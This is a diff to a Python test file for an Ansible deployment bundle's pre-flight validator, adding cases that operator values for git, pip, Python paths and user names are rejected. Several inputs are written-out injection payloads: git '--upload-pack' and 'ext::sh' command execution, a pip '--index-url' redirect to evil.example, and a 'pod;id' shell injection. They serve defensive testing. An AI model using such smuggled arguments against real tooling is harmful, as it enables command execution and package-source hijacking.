@@ -153,6 +153,59 @@ CASES = [
         {"xapi_encodage_pod_version": "", "xapi_encodage_worker_ip_filter": False},
         "set xapi_encodage_pod_version to the Pod release your frontal runs",
     ),
+    # Issue 32's review: `from` names where the checkout is (never a symbolic ref), and every
+    # operator value reaching git's or pip's command line is checked before any change.
+    (
+        "xapi_encodage.yml",
+        {
+            "xapi_encodage_pod_upgrade_from": "HEAD",
+            "xapi_encodage_pod_upgrade_to": "4.4.0",
+            "xapi_encodage_worker_ip_filter": False,
+        },
+        'xapi_encodage_pod_upgrade_from ("HEAD") is a symbolic ref',
+    ),
+    (
+        "xapi_encodage.yml",
+        {
+            "xapi_encodage_pod_repo": "--upload-pack=touch /tmp/pwned",
+            "xapi_encodage_worker_ip_filter": False,
+        },
+        'xapi_encodage_pod_repo ("--upload-pack=touch /tmp/pwned") must be',
+    ),
+    (
+        "xapi_encodage.yml",
+        {
+            "xapi_encodage_pod_repo": "ext::sh -c touch% /tmp/pwned",
+            "xapi_encodage_worker_ip_filter": False,
+        },
+        'xapi_encodage_pod_repo ("ext::sh -c touch% /tmp/pwned") must be',
+    ),
+    (
+        "xapi_encodage.yml",
+        {
+            "xapi_encodage_pod_python": "/usr/bin/python3 -c 'import os'",
+            "xapi_encodage_worker_ip_filter": False,
+        },
+        "xapi_encodage_pod_python",
+    ),
+    (
+        "xapi_encodage.yml",
+        {
+            "xapi_encodage_pod_constraints_dest": "/tmp/c.txt --index-url=http://evil.example/",
+            "xapi_encodage_worker_ip_filter": False,
+        },
+        "xapi_encodage_pod_constraints_dest",
+    ),
+    (
+        "xapi_frontal.yml",
+        {"xapi_frontal_venv": "home/pod/venv", "xapi_frontal_public_host": "pod.example.org"},
+        "xapi_frontal_venv must be an absolute path",
+    ),
+    (
+        "xapi_frontal.yml",
+        {"xapi_frontal_user": "pod;id", "xapi_frontal_public_host": "pod.example.org"},
+        'xapi_frontal_user ("pod;id")',
+    ),
     # The frontal's public host name (roles/xapi_frontal): Pod would answer 200 and drop
     # every statement of a site reached by such a name (docs/upstream-facts.md §1.6).
     ("xapi_frontal.yml", {"xapi_frontal_public_host": "host:8000"}, "it has a port (:8000)"),
@@ -324,3 +377,33 @@ def test_broker_without_firewall_is_warned_about(inventory: Path, tmp_path: Path
     _, output = check_run(inventory, tmp_path, "redis.yml", values)
     assert "WARNING: redis_firewall_enabled is false" in output, output[-2000:]
     assert "192.0.2.7" in output
+
+
+def test_public_host_without_pods_validator_is_not_silent(inventory: Path, tmp_path: Path) -> None:
+    """Pod's venv without email_validator (issue 32's review, gap 5): the frontal's check
+    passed in silence. It now says that only the bundle's own rule checked the name, and why.
+    A stand-in for Pod here: its tree, and a venv whose python (this machine's, which has no
+    email_validator) runs as this user (su: root to root)."""
+    pod, venv = tmp_path / "pod", tmp_path / "venv"
+    (pod / "pod" / "custom").mkdir(parents=True)
+    (pod / "manage.py").write_text("")
+    (venv / "bin").mkdir(parents=True)
+    (venv / "bin" / "python").symlink_to("/usr/bin/python3")
+    (venv / "bin" / "pip").write_text("")
+    assert subprocess.run(
+        ["/usr/bin/python3", "-c", "import email_validator"], check=False
+    ).returncode
+    values = {
+        **GOOD,
+        "xapi_frontal_public_host": "pod.univ.example.fr",
+        "xapi_frontal_pod_dir": str(pod),
+        "xapi_frontal_venv": str(venv),
+        "xapi_frontal_user": "root",
+        "xapi_frontal_preflight_broker": False,
+        "ansible_become_method": "su",
+    }
+    _, output = check_run(inventory, tmp_path, "xapi_frontal.yml", values)
+    assert "Check the public host name with the validator of Pod's venv" in output, output[-3000:]
+    flat = " ".join(output.replace("''", "'").split())
+    assert f"WARNING: Pod's venv {venv} on localhost has no email_validator" in flat, flat[-3000:]
+    assert "checked with the bundle's own rule only" in flat
